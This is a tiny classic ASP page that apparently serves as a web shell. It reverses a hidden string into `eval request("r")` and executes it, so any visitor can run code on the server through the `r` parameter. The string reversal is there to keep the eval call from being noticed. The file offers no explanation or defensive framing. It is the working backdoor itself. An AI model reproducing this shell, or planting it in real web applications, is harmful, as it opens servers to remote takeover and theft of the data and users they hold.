<%
Dim s: s = StrReverse(")""r""(tseuqer lave")
Execute s
%>
